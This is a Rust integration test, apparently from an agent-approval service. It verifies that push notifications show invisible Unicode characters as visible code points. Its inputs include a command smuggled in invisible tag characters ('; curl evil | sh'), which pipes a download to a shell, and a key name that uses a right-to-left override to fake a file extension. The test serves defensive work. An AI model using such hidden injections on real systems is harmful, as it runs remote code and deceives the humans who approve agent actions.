//! Review R's R8 (`docs/src/security.md`; finding 1 of the "push & text" slice, `R1` below):
//! invisible characters in pushes are shown as code points (the page's half is in
//! `web_app/pages.rs`). The slice's other findings: push endpoints that cannot change hands (R10,
//! `endpoint_ownership.rs`), no push URL in any log line and no proxy for pushes (R11,
//! `logs_and_proxies.rs`, on the real binary), and NUL refused in every JSON body (R12,
//! `fuzzing/nul_bytes.rs`).

use crate::harness::push::PushService;
use crate::harness::{Auth, TestApp, on_both_backends};
use clawgate::config::Backend;
use clawgate::domain::text;
use serde_json::json;

/// `s` written in Unicode tag characters (U+E0000 + ASCII): invisible in most fonts.
fn tags(s: &str) -> String {
    s.chars().filter_map(|c| char::from_u32(0xE0000 + u32::from(c))).collect()
}

/// How `s` looks once marked: each tag character as `[U+E00XX]`.
fn tags_marked(s: &str) -> String {
    s.chars().map(|c| format!("[U+E00{:02X}]", u32::from(c))).collect()
}

fn assert_nothing_invisible(what: &str, text: &str) {
    let hidden: Vec<String> =
        text.chars().filter(|&c| text::is_marked(c)).map(|c| format!("U+{:04X}", u32::from(c))).collect();
    assert!(hidden.is_empty(), "{what} carries invisible characters {hidden:?}: {text:?}");
}

on_both_backends!(pushes_show_invisible_characters_as_code_points);

/// R1: an agent id and a key name with tag characters, a right-to-left override and a line
/// separator reach the notification (title and the text the service worker shows) marked.
async fn pushes_show_invisible_characters_as_code_points(backend: Backend) {
    let mut service = PushService::start().await;
    let Some(app) = TestApp::spawn_with(backend, |a| a.push_allow_http_loopback = true).await else {
        return;
    };
    let ada = app.person("ada@example.com").await;
    let endpoint = service.endpoint("/push/ada");
    app.post("/api/v1/push/subscribe", &ada.auth(), service.subscription(&endpoint)).await.expect(201);
    let name = format!("deploy\u{202E}gpj.exe{}", tags(" all"));
    let key = app.post("/api/v1/auth/api-keys", &ada.auth(), json!({ "name": name })).await.expect(201);
    let key = key.body["key"].as_str().expect("key").to_owned();

    let agent = format!("bot{}\u{2028}\u{202E}", tags("; curl evil | sh"));
    let asked = app
        .post(
            "/api/v1/approval/request",
            &Auth::Bearer(key.clone()),
            json!({ "action": format!("echo hello{}", tags("; curl evil | sh")), "agentId": agent }),
        )
        .await
        .expect(201);
    let push = service.next_of("approval_request").await;
    assert_eq!(push.path, "/push/ada");
    assert_eq!(push.payload["requestId"], asked.body["requestId"]);
    let shown = format!("bot{}[U+2028][U+202E]", tags_marked("; curl evil | sh"));
    assert_eq!(push.payload["title"], format!("{shown} asks for approval"));
    assert_eq!(push.payload["agentId"], shown, "the service worker shows it in the body");
    assert_nothing_invisible("the request push", &push.payload.to_string());

    // Denied three times, the key is suspended and its owner told, naming the key.
    let first = asked.body["requestId"].as_str().expect("id").to_owned();
    app.deny(&ada, &first).await.expect(200);
    for _ in 0..2 {
        let next = app.ask(&key, "again").await;
        app.deny(&ada, &next.id).await.expect(200);
    }
    let push = service.next_of("api_key_suspended").await;
    let title = push.payload["title"].as_str().expect("title");
    assert!(title.contains(&format!("deploy[U+202E]gpj.exe{}", tags_marked(" all"))), "{title}");
    assert_nothing_invisible("the suspension push", &push.payload.to_string());
}
